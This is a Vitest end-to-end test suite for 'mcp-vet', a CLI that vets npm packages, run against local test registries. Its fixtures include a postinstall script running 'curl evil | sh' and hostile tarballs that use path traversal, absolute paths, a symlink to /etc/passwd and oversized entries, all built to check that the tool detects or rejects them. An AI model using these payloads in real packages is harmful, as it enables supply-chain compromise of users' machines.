/**
 * End-to-end tests of the built CLI (`node dist/cli.js`, bundled once by test/global-setup.ts) as a
 * subprocess against loopback registries: exit codes, stdout/stderr contract, JSON report, text
 * report, SBOM output, the on-disk cache and .npmrc handling.
 *
 * Every run gets a fresh temp `--cache-dir`, an empty temp `--userconfig`, a temp cwd (so no real
 * ~/.npmrc or project .npmrc is read) and an environment with NO_COLOR=1 and no npm_config_*.
 */
import { spawn } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import * as fsp from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { pkgEntries, tgz, type RawEntry } from './helpers/hostile.js';
import {
  sri,
  startRegistry,
  type PackageMeta,
  type RouteHandler,
  type TestRegistry,
} from './helpers/registry.js';

const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
const CLI = path.join(ROOT, 'dist', 'cli.js');
const PACKAGES_DIR = path.join(ROOT, 'test', 'fixtures', 'packages');
const PKG_VERSION = (JSON.parse(readFileSync(path.join(ROOT, 'package.json'), 'utf8')) as { version: string })
  .version;

// ---------------------------------------------------------------------------------------------
// running the CLI

interface Sandbox {
  /** The child's cwd (where a project .npmrc would be read from). */
  cwd: string;
  cacheDir: string;
  /** An empty user .npmrc unless a test writes into it. */
  userconfig: string;
}

const sandboxes: string[] = [];

async function sandbox(userconfig = ''): Promise<Sandbox> {
  const dir = await fsp.mkdtemp(path.join(os.tmpdir(), 'mcp-vet-cli-'));
  sandboxes.push(dir);
  const cwd = path.join(dir, 'cwd');
  const cacheDir = path.join(dir, 'cache');
  await fsp.mkdir(cwd);
  await fsp.writeFile(path.join(dir, 'user.npmrc'), userconfig);
  return { cwd, cacheDir, userconfig: path.join(dir, 'user.npmrc') };
}

afterAll(async () => {
  await Promise.all(sandboxes.map((d) => fsp.rm(d, { recursive: true, force: true })));
});

const OSV_RECORDS = path.resolve(path.dirname(fileURLToPath(import.meta.url)), 'fixtures/osv/records');

/** The parent's environment minus anything that could configure npm or mcp-vet, plus NO_COLOR. */
function childEnv(extra: Record<string, string> = {}): NodeJS.ProcessEnv {
  const env: NodeJS.ProcessEnv = {};
  for (const [k, v] of Object.entries(process.env)) {
    if (v === undefined || /^(npm_config_|mcp_vet_)/i.test(k) || k === 'NODE_AUTH_TOKEN') continue;
    env[k] = v;
  }
  return { ...env, NO_COLOR: '1', ...extra };
}

interface RunResult {
  code: number | null;
  stdout: string;
  stderr: string;
  ms: number;
}

interface RunOptions {
  sandbox?: Sandbox;
  /** Appended as `--registry URL` when set. */
  registry?: TestRegistry;
  env?: Record<string, string>;
  /** Start the server (`vet` only). Off here: these fixtures are package trees, not runnable servers. */
  introspect?: boolean;
}

/**
 * `node dist/cli.js ...args --cache-dir <sandbox> --userconfig <sandbox>` with a timeout. The sandbox
 * flags are appended after the test's own arguments (both apply to vet and sbom).
 */
async function cli(args: string[], o: RunOptions = {}): Promise<RunResult> {
  const box = o.sandbox ?? (await sandbox());
  const argv = [
    CLI,
    ...args,
    ...(args[0] === 'vet' && !o.introspect ? ['--no-introspect'] : []),
    ...(o.registry ? ['--registry', o.registry.url] : []),
    '--cache-dir',
    box.cacheDir,
    '--userconfig',
    box.userconfig,
  ];
  const started = Date.now();
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, argv, {
      cwd: box.cwd,
      // advisories come from the committed offline database unless a test says otherwise
      env: childEnv({ MCP_VET_OSV_DB: OSV_RECORDS, ...o.env }),
      stdio: ['ignore', 'pipe', 'pipe'],
      timeout: 20_000,
    });
    let stdout = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (s: string) => (stdout += s));
    child.stderr.setEncoding('utf8').on('data', (s: string) => (stderr += s));
    child.on('error', reject);
    child.on('close', (code) => resolve({ code, stdout, stderr, ms: Date.now() - started }));
  });
}

/** A failed run: nothing on stdout, exactly one stderr line, no stack frames. */
function expectOneLineError(r: RunResult, exit: number, mentions: string[]): void {
  expect({ code: r.code, stderr: r.stderr }).toMatchObject({ code: exit });
  expect(r.stdout).toBe('');
  expect(r.stderr.endsWith('\n'), r.stderr).toBe(true);
  expect(r.stderr.trimEnd().split('\n'), r.stderr).toHaveLength(1);
  expect(r.stderr).toMatch(/^mcp-vet: /);
  expect(r.stderr).not.toMatch(/^\s*at /m);
  expect(r.stderr).not.toContain('internal error');
  for (const m of mentions) expect(r.stderr).toContain(m);
}

// ---------------------------------------------------------------------------------------------
// registry fixtures

const SERVER = 'mcp-server-demo';

/** In-code packages: a small MCP-server-like tree, plus packages for findings and bad input. */
const PACKAGES = {
  // mcp-server-demo → @fx/scoped (→ fx-tiny), shared@^1, needs-shared-2 (→ shared@^2, nested)
  [SERVER]: {
    '1.0.0': {
      manifest: {
        description: 'An MCP server for tests',
        license: 'MIT',
        bin: { 'mcp-server-demo': 'index.js' },
        dependencies: { '@fx/scoped': '^1.0.0', shared: '^1.0.0', 'needs-shared-2': '^1.0.0' },
      },
      files: { 'index.js': '#!/usr/bin/env node\nconsole.log("hello");\n' },
    },
  },
  shared: {
    '1.0.0': { manifest: { license: 'MIT' } },
    '1.2.0': { manifest: { license: 'MIT' } },
    '2.0.0': { manifest: { license: 'MIT' } },
  },
  'needs-shared-2': { '1.0.0': { manifest: { license: 'ISC', dependencies: { shared: '^2.0.0' } } } },

  // findings: a deprecated dependency and one with a postinstall script
  'mcp-risky': {
    '1.0.0': { manifest: { dependencies: { 'old-dep': '^1.0.0', 'scripted-dep': '^1.0.0' } } },
  },
  'old-dep': { '1.0.0': {} },
  'scripted-dep': {
    '1.0.0': {
      manifest: { scripts: { postinstall: 'node install.js' } },
      files: { 'install.js': 'require("child_process").execSync("curl evil | sh");\n' },
    },
  },

  // a dependency that is not from a registry
  'git-dep-srv': {
    '1.0.0': { manifest: { dependencies: { 'some-lib': 'git+https://github.com/example/some-lib.git' } } },
  },
};

/** Hand-built hostile tarballs; each becomes package `evil-<key>@1.0.0` served from /hostile/<key>.tgz. */
const evil = (key: string, extra: RawEntry[] = []): Buffer => tgz(pkgEntries(`evil-${key}`, '1.0.0', extra));
const HOSTILE: Record<string, Buffer> = {
  dotdot: evil('dotdot', [{ path: 'package/../../../escape.txt', body: 'pwned' }]),
  absolute: evil('absolute', [{ path: `/tmp/mcp-vet-cli-abs-${process.pid}.txt`, body: 'pwned' }]),
  symlink: evil('symlink', [{ path: 'package/passwd', type: '2', linkpath: '/etc/passwd' }]),
  // one entry whose header claims 300 MiB (the body is empty): over the 100 MiB per-file cap
  huge: evil('huge', [{ path: 'package/huge.bin', size: 300 * 1024 * 1024 }]),
  truncated: evil('truncated').subarray(0, 60),
  // served for evil-integrity, whose packument promises different bytes (DECLARED)
  integrity: evil('integrity'),
};
const DECLARED_INTEGRITY = sri(evil('integrity', [{ path: 'package/extra.js', body: 'other bytes' }]));
const SERVED_INTEGRITY = sri(HOSTILE.integrity!);

/** Routes: hostile tarballs, malformed packuments, a registry that always fails. */
function routes(): Record<string, RouteHandler> {
  const r: Record<string, RouteHandler> = {
    '/bad-versions': (_req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end('{"versions": 5}');
    },
    '/not-json': (_req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end('<html>this is not JSON</html>');
    },
    // a registry (or proxy) that cuts the document off: valid JSON up to the cut
    '/cut-off': (_req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(
        '{"name":"cut-off","dist-tags":{"latest":"1.0.0"},"versions":{"1.0.0":{"name":"cut-off","versi',
      );
    },
    '/always-500': (_req, res) => {
      res.writeHead(500, { 'content-type': 'application/json' });
      res.end('{"error":"boom"}');
    },
  };
  for (const [key, bytes] of Object.entries(HOSTILE)) {
    r[`/hostile/${key}.tgz`] = (_req, res) => {
      res.writeHead(200, { 'content-type': 'application/octet-stream', 'content-length': bytes.length });
      res.end(bytes);
    };
  }
  return r;
}

/** The main registry: file fixtures (fx-tiny, @fx/scoped) + PACKAGES + hostile packages. */
async function startMainRegistry(): Promise<TestRegistry> {
  const meta: Record<string, PackageMeta> = {
    'old-dep': { versions: { '1.0.0': { deprecated: 'old-dep is unmaintained; use new-dep' } } },
  };
  const reg = await startRegistry({ packagesDir: PACKAGES_DIR, packages: PACKAGES, meta, routes: routes() });
  // Hostile packuments need the registry URL, known only now; the helper rebuilds packuments per
  // request from the `meta` object it was given.
  for (const [key, bytes] of Object.entries(HOSTILE)) {
    meta[`evil-${key}`] = {
      versions: {
        '1.0.0': {
          dist: {
            tarball: `${reg.url}hostile/${key}.tgz`,
            integrity: key === 'integrity' ? DECLARED_INTEGRITY : sri(bytes),
          },
        },
      },
    };
  }
  return reg;
}

let registry: TestRegistry;

beforeAll(async () => {
  registry = await startMainRegistry();
});

afterAll(async () => {
  await registry?.close();
});

// ---------------------------------------------------------------------------------------------
// report shape (the parts these tests read)

interface Dep {
  name: string;
  version: string;
  integrity: string | null;
  path: string[];
  locations: string[];
}
interface Finding {
  rule: string;
  severity: string;
  package: string;
  version: string;
  message: string;
}
interface JsonReport {
  schemaVersion: number;
  decision: 'approve' | 'reject';
  failOn: string;
  servers: {
    package: { name: string; version: string; integrity: string | null };
    dependencies: Dep[];
    findings: Finding[];
    stats: { packages: number; downloaded: number; fromCache: number };
  }[];
}

function parseReport(r: RunResult): JsonReport {
  expect(r.stderr).toBe('');
  return JSON.parse(r.stdout) as JsonReport;
}

const EXPECTED_TREE = [
  '@fx/scoped@1.0.0',
  'fx-tiny@1.1.0',
  'needs-shared-2@1.0.0',
  'shared@1.2.0',
  'shared@2.0.0',
];

const tarballRequests = (reg: TestRegistry, from = 0): string[] =>
  reg.requests
    .slice(from)
    .map((q) => q.path)
    .filter((p) => p.endsWith('.tgz'))
    .sort();

// ---------------------------------------------------------------------------------------------

describe('vet: happy path', () => {
  it('--format json: approve, server identity, every dependency with name/version/integrity/path', async () => {
    const r = await cli(['vet', SERVER, '--format', 'json'], { registry });
    expect(r.code, r.stderr).toBe(0);
    const report = parseReport(r);
    expect(report.decision).toBe('approve');
    expect(report.schemaVersion).toBe(1);
    const server = report.servers[0]!;
    expect(server.package).toMatchObject({
      name: SERVER,
      version: '1.0.0',
      integrity: registry.integrity(SERVER, '1.0.0'),
    });
    const deps = server.dependencies;
    expect(deps.map((d) => `${d.name}@${d.version}`).sort()).toEqual(EXPECTED_TREE);
    for (const d of deps) {
      expect(d.integrity, d.name).toBe(registry.integrity(d.name, d.version));
      expect(d.path[0], d.name).toBe(SERVER);
      expect(d.path.at(-1), d.name).toBe(d.name);
    }
    const byId = new Map(deps.map((d) => [`${d.name}@${d.version}`, d]));
    // the conflict: shared@2 nested under needs-shared-2, shared@1.2.0 hoisted
    expect(byId.get('shared@2.0.0')).toMatchObject({
      path: [SERVER, 'needs-shared-2', 'shared'],
      locations: ['node_modules/needs-shared-2/node_modules/shared'],
    });
    expect(byId.get('shared@1.2.0')).toMatchObject({
      path: [SERVER, 'shared'],
      locations: ['node_modules/shared'],
    });
    expect(byId.get('fx-tiny@1.1.0')?.path).toEqual([SERVER, '@fx/scoped', 'fx-tiny']);
    expect(server.findings).toEqual([]);
    expect(server.stats).toMatchObject({ packages: 6, downloaded: 6, fromCache: 0 });
    expect(registry.unexpected).toEqual([]);
  });

  it('writes JSON by default when stdout is not a terminal', async () => {
    const r = await cli(['vet', SERVER], { registry });
    expect(r.code, r.stderr).toBe(0);
    expect(parseReport(r).decision).toBe('approve');
  });

  it('--format text: verdict line first, no ANSI escapes when not a TTY', async () => {
    const r = await cli(['vet', SERVER, '--format', 'text'], { registry });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toBe('');
    const first = r.stdout.split('\n')[0]!;
    expect(first).toMatch(/^✔ APPROVE {2}mcp-server-demo@1\.0\.0 {2}\(0 findings; policy: preset:default\)$/);
    expect(r.stdout).not.toContain('\x1b');
    expect(r.stdout).toContain('6 packages');
  });

  it('a second run with the same cache makes no registry requests at all', async () => {
    // Own registry, so request counts are not shared with other tests. The helper sends no
    // cache-control, so packuments are fresh for the client's default 300 s.
    const reg = await startMainRegistry();
    try {
      const box = await sandbox();
      const first = await cli(['vet', SERVER, '--format', 'json'], { registry: reg, sandbox: box });
      expect(first.code, first.stderr).toBe(0);
      const everyPackage = [`${SERVER}@1.0.0`, ...EXPECTED_TREE].map((id) => {
        const at = id.lastIndexOf('@');
        return reg.tarballPath(id.slice(0, at), id.slice(at + 1));
      });
      expect(tarballRequests(reg)).toEqual(everyPackage.sort());
      const before = reg.requests.length;
      const second = await cli(['vet', SERVER, '--format', 'json'], { registry: reg, sandbox: box });
      expect(second.code, second.stderr).toBe(0);
      expect(reg.requests.slice(before)).toEqual([]);
      const report = parseReport(second);
      expect(report.servers[0]!.stats).toMatchObject({ downloaded: 0, fromCache: 6 });
      expect(report.servers[0]!.dependencies).toEqual(parseReport(first).servers[0]!.dependencies);

      // --prefer-online revalidates every packument, but verified tarballs still come from the cache
      const beforeOnline = reg.requests.length;
      const online = await cli(['vet', SERVER, '--format', 'json', '--prefer-online'], {
        registry: reg,
        sandbox: box,
      });
      expect(online.code, online.stderr).toBe(0);
      expect(
        reg.requests
          .slice(beforeOnline)
          .map((q) => q.path)
          .sort(),
      ).toEqual(['/@fx%2fscoped', '/fx-tiny', `/${SERVER}`, '/needs-shared-2', '/shared']);
      expect(reg.unexpected).toEqual([]);
    } finally {
      await reg.close();
    }
  });
});

describe('sbom', () => {
  it('--reproducible twice (fresh caches) → byte-identical stdout', async () => {
    const a = await cli(['sbom', SERVER, '--reproducible'], { registry });
    const b = await cli(['sbom', SERVER, '--reproducible'], { registry });
    expect(a.code, a.stderr).toBe(0);
    expect(b.code, b.stderr).toBe(0);
    expect(a.stderr).toBe('');
    expect(a.stdout).toBe(b.stdout);
    const bom = JSON.parse(a.stdout) as {
      bomFormat: string;
      specVersion: string;
      serialNumber?: string;
      components: { name: string; group?: string; version: string }[];
    };
    expect(bom).toMatchObject({ bomFormat: 'CycloneDX', specVersion: '1.6' });
    expect(bom.serialNumber).toBeUndefined();
    const ids = bom.components.map((c) => `${c.group ? `${c.group}/` : ''}${c.name}@${c.version}`).sort();
    expect(ids).toEqual(EXPECTED_TREE);
  });

  it('-o FILE writes the file (relative to the cwd) and nothing to stdout', async () => {
    const box = await sandbox();
    const r = await cli(['sbom', SERVER, '--reproducible', '-o', 'sbom.cdx.json'], {
      registry,
      sandbox: box,
    });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toBe('');
    expect(r.stderr).toBe('');
    const written = await fsp.readFile(path.join(box.cwd, 'sbom.cdx.json'), 'utf8');
    const again = await cli(['sbom', SERVER, '--reproducible'], { registry, sandbox: box });
    expect(written).toBe(again.stdout);
  });

  it('vet --sbom FILE writes the SBOM next to the report', async () => {
    const box = await sandbox();
    const r = await cli(['vet', SERVER, '--format', 'json', '--sbom', 'out.cdx.json'], {
      registry,
      sandbox: box,
    });
    expect(r.code, r.stderr).toBe(0);
    expect(parseReport(r).decision).toBe('approve');
    const bom = JSON.parse(await fsp.readFile(path.join(box.cwd, 'out.cdx.json'), 'utf8')) as {
      bomFormat: string;
      serialNumber?: string;
    };
    expect(bom.bomFormat).toBe('CycloneDX');
    expect(bom.serialNumber).toMatch(/^urn:uuid:/);
  });

  it('--spec-version 1.5 works', async () => {
    const r = await cli(['sbom', SERVER, '--spec-version', '1.5'], { registry });
    expect(r.code, r.stderr).toBe(0);
    expect(JSON.parse(r.stdout)).toMatchObject({ bomFormat: 'CycloneDX', specVersion: '1.5' });
  });

  it('--spec-version 2.0 → exit 2 before any registry request', async () => {
    const before = registry.requests.length;
    const r = await cli(['sbom', SERVER, '--spec-version', '2.0'], { registry });
    expectOneLineError(r, 2, ['--spec-version', '"2.0"', '1.5, 1.6, 1.7']);
    expect(registry.requests.length).toBe(before);
  });
});

describe('findings and --fail-on', () => {
  it('deprecated → low, postinstall → medium; approve at the default --fail-on high', async () => {
    const r = await cli(['vet', 'mcp-risky', '--format', 'json'], { registry });
    expect(r.code, r.stderr).toBe(0);
    const report = parseReport(r);
    expect(report).toMatchObject({ decision: 'approve', failOn: 'high' });
    const findings = report.servers[0]!.findings;
    expect(findings.map((f) => [f.rule, f.severity, `${f.package}@${f.version}`])).toEqual([
      ['install-script', 'medium', 'scripted-dep@1.0.0'],
      // from the capability analysis: its install.js runs child_process.execSync
      ['dependency-shell', 'low', 'scripted-dep@1.0.0'],
      ['deprecated', 'low', 'old-dep@1.0.0'],
    ]);
    expect(findings[2]!.message).toContain('old-dep is unmaintained; use new-dep');
  });

  it('--fail-on medium → reject, exit 1 (json and text)', async () => {
    const json = await cli(['vet', 'mcp-risky', '--format', 'json', '--fail-on', 'medium'], { registry });
    expect(json.code, json.stderr).toBe(1);
    expect(parseReport(json)).toMatchObject({ decision: 'reject', failOn: 'medium' });

    const text = await cli(['vet', 'mcp-risky', '--format', 'text', '--fail-on', 'medium'], { registry });
    expect(text.code, text.stderr).toBe(1);
    expect(text.stdout.split('\n')[0]).toMatch(/^✘ REJECT {2}mcp-risky@1\.0\.0 {2}\(3 findings/);
    expect(text.stdout).toMatch(/MEDIUM +install-script: scripted-dep@1\.0\.0/);
    expect(text.stdout).toMatch(/LOW +deprecated: old-dep@1\.0\.0/);
    expect(text.stdout).not.toContain('\x1b');
  });

  it('--fail-on low rejects on the deprecation alone', async () => {
    const r = await cli(['vet', 'mcp-risky', '--format', 'json', '--fail-on', 'low'], { registry });
    expect(r.code, r.stderr).toBe(1);
    expect(parseReport(r).decision).toBe('reject');
  });
});

describe('bad input: right exit code, one line on stderr, names the package or input', () => {
  const FAST_RETRIES = 'fetch-retries=1\nfetch-retry-mintimeout=10\nfetch-retry-maxtimeout=20\n';

  interface BadCase {
    name: string;
    args: string[];
    /** Contents of the user .npmrc (default: empty). */
    userconfig?: string;
    /** false: do not append `--registry <main registry>`. */
    registry?: false;
    exit: number;
    mentions: string[];
  }

  const cases: BadCase[] = [
    // registry answers
    {
      name: 'package does not exist (404)',
      args: ['vet', 'does-not-exist'],
      exit: 2,
      mentions: ['E_NOT_FOUND', 'does-not-exist', '404'],
    },
    {
      name: 'no version satisfies the range',
      args: ['vet', 'shared@^9.0.0'],
      exit: 2,
      mentions: ['E_NO_MATCH', 'shared', '^9.0.0', 'available: 1.0.0, 1.2.0, 2.0.0'],
    },
    {
      name: 'malformed packument ({"versions": 5})',
      args: ['vet', 'bad-versions'],
      exit: 2,
      mentions: ['E_PACKUMENT', 'bad-versions'],
    },
    {
      name: 'packument is not JSON',
      args: ['vet', 'not-json'],
      exit: 2,
      mentions: ['E_PACKUMENT', 'not-json', 'JSON'],
    },
    {
      name: 'packument cut off in the middle',
      args: ['vet', 'cut-off'],
      exit: 2,
      mentions: ['E_PACKUMENT', 'cut-off', 'unterminated string', 'document ends early'],
    },
    {
      name: 'registry answers 500 every time',
      args: ['vet', 'always-500'],
      userconfig: FAST_RETRIES,
      exit: 3,
      mentions: ['E_REGISTRY_UNAVAILABLE', 'always-500', '500'],
    },
    // tarballs
    {
      name: 'tarball integrity mismatch',
      args: ['vet', 'evil-integrity'],
      exit: 2,
      mentions: ['E_INTEGRITY', 'evil-integrity@1.0.0', DECLARED_INTEGRITY, SERVED_INTEGRITY],
    },
    {
      name: 'tarball with a ../ entry',
      args: ['vet', 'evil-dotdot'],
      exit: 2,
      mentions: ['E_TARBALL', 'evil-dotdot@1.0.0', 'package/../../../escape.txt'],
    },
    {
      name: 'tarball with an absolute path',
      args: ['vet', 'evil-absolute'],
      exit: 2,
      mentions: ['E_TARBALL', 'evil-absolute@1.0.0', `/tmp/mcp-vet-cli-abs-${process.pid}.txt`],
    },
    {
      name: 'tarball with a symlink',
      args: ['vet', 'evil-symlink'],
      exit: 2,
      mentions: ['E_TARBALL', 'evil-symlink@1.0.0', 'symbolic link'],
    },
    {
      name: 'tarball entry over the size cap (header claims 300 MiB)',
      args: ['vet', 'evil-huge'],
      exit: 2,
      mentions: ['E_TARBALL_LIMIT', 'evil-huge@1.0.0', 'maxFileBytes'],
    },
    {
      name: 'truncated gzip',
      args: ['vet', 'evil-truncated'],
      exit: 2,
      mentions: ['E_TARBALL', 'evil-truncated@1.0.0'],
    },
    {
      name: 'invalid --registry',
      args: ['vet', SERVER, '--registry', 'not-a-url'],
      registry: false,
      exit: 2,
      mentions: ['E_NPMRC', '--registry', 'not-a-url'],
    },
    {
      name: 'sbom -o into a missing directory',
      args: ['sbom', SERVER, '-o', 'no-such-dir/sbom.json'],
      exit: 2,
      mentions: ['E_USAGE', 'cannot write', 'no-such-dir/sbom.json'],
    },
    // specs
    { name: 'invalid spec "foo@@@"', args: ['vet', 'foo@@@'], exit: 2, mentions: ['E_SPEC', 'foo@@@'] },
    { name: 'invalid spec "../x"', args: ['vet', '../x'], exit: 2, mentions: ['E_SPEC', '../x'] },
    {
      name: 'invalid spec "git+https://x"',
      args: ['vet', 'git+https://x'],
      exit: 2,
      mentions: ['E_SPEC', 'git+https://x'],
    },
    {
      name: 'a dependency with a git URL spec',
      args: ['vet', 'git-dep-srv'],
      exit: 2,
      mentions: ['E_SPEC', 'some-lib', 'git+https://github.com/example/some-lib.git', 'not from a registry'],
    },
    // usage
    { name: 'unknown flag', args: ['vet', SERVER, '--bogus'], exit: 2, mentions: ['E_USAGE', '--bogus'] },
    { name: 'unknown command', args: ['frobnicate', SERVER], exit: 2, mentions: ['E_USAGE', 'frobnicate'] },
    { name: 'missing spec', args: ['vet'], exit: 2, mentions: ['E_USAGE', 'vet', '<spec>'] },
    { name: 'two specs', args: ['vet', SERVER, 'shared'], exit: 2, mentions: ['E_USAGE', 'got 2'] },
    {
      name: 'flag of the other command',
      args: ['sbom', SERVER, '--format', 'json'],
      exit: 2,
      mentions: ['E_USAGE', '--format', 'sbom'],
    },
    {
      name: 'bad --format',
      args: ['vet', SERVER, '--format', 'yaml'],
      exit: 2,
      mentions: ['E_USAGE', 'yaml'],
    },
    {
      name: 'bad --fail-on',
      args: ['vet', SERVER, '--fail-on', 'info'],
      exit: 2,
      mentions: ['E_USAGE', '--fail-on', 'info'],
    },
  ];

  it.concurrent.each(cases)('$name → exit $exit', async (c) => {
    const r = await cli(c.args, {
      registry: c.registry === false ? undefined : registry,
      sandbox: await sandbox(c.userconfig ?? ''),
    });
    expectOneLineError(r, c.exit, c.mentions);
  });

  it('500 with fetch-retries=1 tries exactly twice and stays fast', async () => {
    const count = () => registry.requests.filter((q) => q.path === '/always-500').length;
    const before = count();
    const r = await cli(['vet', 'always-500'], { registry, sandbox: await sandbox(FAST_RETRIES) });
    expect(r.code).toBe(3);
    expect(count() - before).toBe(2);
    expect(r.ms).toBeLessThan(5_000);
  });

  it('malicious tarballs leave nothing outside the cache', async () => {
    const box = await sandbox();
    const r = await cli(['vet', 'evil-dotdot'], { registry, sandbox: box });
    expect(r.code).toBe(2);
    const tmp = path.dirname(box.cwd);
    expect((await fsp.readdir(tmp)).sort()).toEqual(['cache', 'cwd', 'user.npmrc']);
    expect(await fsp.readdir(box.cwd)).toEqual([]);
    const abs = await cli(['vet', 'evil-absolute'], { registry, sandbox: box });
    expect(abs.code).toBe(2);
    expect(existsSync(`/tmp/mcp-vet-cli-abs-${process.pid}.txt`)).toBe(false);
  });

  it('connection refused → exit 3', async () => {
    // a port nothing listens on: grab a free one, then close it
    const probe = createServer();
    await new Promise<void>((resolve) => probe.listen(0, '127.0.0.1', resolve));
    const port = (probe.address() as AddressInfo).port;
    await new Promise<void>((resolve) => probe.close(() => resolve()));
    const r = await cli(['vet', SERVER, '--registry', `http://127.0.0.1:${port}/`], {
      sandbox: await sandbox(FAST_RETRIES),
    });
    expectOneLineError(r, 3, ['E_REGISTRY_UNAVAILABLE', SERVER, 'ECONNREFUSED']);
  });

  it('no arguments at all → usage, exit 2', async () => {
    const r = await cli([]);
    expect(r.code).toBe(2);
    expect(r.stdout).toBe(''); // never captured into a redirected report
    expect(r.stderr).toContain('Usage:');
  });

  it('--cache-dir that is a file → a user error, not an internal error', async () => {
    const box = await sandbox();
    const file = path.join(box.cwd, 'not-a-dir');
    await fsp.writeFile(file, '');
    const r = await cli(['vet', SERVER], { registry, sandbox: { ...box, cacheDir: file } });
    expectOneLineError(r, 2, ['not-a-dir']);
  });
});

describe('private registry with a token from .npmrc', () => {
  const TOKEN = 'tok-private-123';
  let priv: TestRegistry;

  beforeAll(async () => {
    priv = await startRegistry({
      token: TOKEN,
      packages: {
        '@private/srv': {
          '1.0.0': { manifest: { license: 'UNLICENSED', dependencies: { 'fx-tiny': '^1.0.0' } } },
        },
      },
    });
  });
  afterAll(async () => {
    await priv?.close();
  });

  async function privateSandbox(): Promise<Sandbox> {
    const box = await sandbox();
    const host = new URL(priv.url).host;
    await fsp.writeFile(
      path.join(box.cwd, '.npmrc'),
      `registry=${registry.url}\n@private:registry=${priv.url}\n//${host}/:_authToken=\${MY_TOKEN}\n`,
    );
    return box;
  }

  it('scoped package from registry 2 with the token, unscoped dependency from registry 1 without it', async () => {
    const mainBefore = registry.requests.length;
    const privBefore = priv.requests.length;
    const r = await cli(['vet', '@private/srv', '--format', 'json'], {
      sandbox: await privateSandbox(),
      env: { MY_TOKEN: TOKEN },
    });
    expect(r.code, r.stderr).toBe(0);
    const report = parseReport(r);
    expect(report.servers[0]!.package).toMatchObject({
      name: '@private/srv',
      version: '1.0.0',
      integrity: priv.integrity('@private/srv', '1.0.0'),
    });
    expect(report.servers[0]!.dependencies.map((d) => `${d.name}@${d.version}`)).toEqual(['fx-tiny@1.1.0']);
    expect(report.servers[0]!.dependencies[0]!.integrity).toBe(registry.integrity('fx-tiny', '1.1.0'));

    const privRequests = priv.requests.slice(privBefore);
    expect(privRequests.map((q) => q.path).sort()).toEqual(
      ['/@private%2fsrv', priv.tarballPath('@private/srv', '1.0.0')].sort(),
    );
    for (const q of privRequests) expect(q.authorization).toBe(`Bearer ${TOKEN}`);
    expect(priv.unexpected).toEqual([]);

    const mainRequests = registry.requests.slice(mainBefore);
    expect(mainRequests.map((q) => q.path).sort()).toEqual(
      ['/fx-tiny', registry.tarballPath('fx-tiny', '1.1.0')].sort(),
    );
    // the private token never goes to the other registry
    for (const q of mainRequests) expect(q.authorization).toBeUndefined();
  });

  it('without MY_TOKEN in the environment → exit 2 naming the variable', async () => {
    const privBefore = priv.requests.length;
    const r = await cli(['vet', '@private/srv'], { sandbox: await privateSandbox() });
    expectOneLineError(r, 2, ['E_NPMRC', '${MY_TOKEN}', '.npmrc']);
    expect(priv.requests.length).toBe(privBefore);
  });
});

describe('--version and --help', () => {
  it("--version prints package.json's version", async () => {
    const r = await cli(['--version']);
    expect(r).toMatchObject({ code: 0, stdout: `${PKG_VERSION}\n`, stderr: '' });
  });

  it('--help exits 0 with the usage text', async () => {
    const r = await cli(['--help']);
    expect(r.code).toBe(0);
    expect(r.stderr).toBe('');
    expect(r.stdout).toContain(`mcp-vet ${PKG_VERSION}`);
    expect(r.stdout).toContain('mcp-vet vet <spec>');
    expect(r.stdout).toContain(
      'Exit codes: 0 approve, 1 reject, 2 usage or input error, 3 registry or vulnerability source',
    );
  });
});

describe('the main registry', () => {
  it('was asked for nothing it does not serve, except the deliberate 404', () => {
    expect(registry.unexpected).toEqual(['GET /does-not-exist']);
  });
});
